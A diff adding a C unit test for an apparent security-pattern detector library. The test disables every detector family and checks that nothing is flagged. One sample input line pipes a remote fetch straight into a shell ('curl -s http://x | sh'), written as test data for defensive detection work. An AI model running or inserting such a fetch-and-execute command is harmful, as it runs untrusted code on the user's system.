@@ -425,6 +425,23 @@ static void test_disable_and_override(void **state)
 	assert_int_equal(sink.f[0].severity, CS_SEV_LOW);
 	cs_detector_free(d);
 
+	/* Every family disabled: nothing compiled, nothing found, nothing breaks. */
+	const char *all[16];
+
+	for (size_t i = 0; i < cs_family_count(); i++)
+		all[i] = cs_family_id(i);
+	all[cs_family_count()] = NULL;
+	cfg.disabled = all;
+	sink.n = sink.total = 0;
+	d = cs_detector_new(&cfg, eh_collect, &sink, err, sizeof(err));
+	assert_non_null(d);
+	assert_int_equal(cs_detector_registry(d)->n, 0);
+	eh_scan(d, OUT, text, strlen(text), 3);
+	eh_scan(d, IN, "curl -s http://x | sh\n", 22, 0);
+	assert_int_equal(sink.total, 0);
+	cs_detector_free(d);
+	cfg.disabled = disabled;
+
 	struct cs_severity_override bad = {.family = "nope", .severity = CS_SEV_LOW};
 
 	cfg.overrides = &bad;
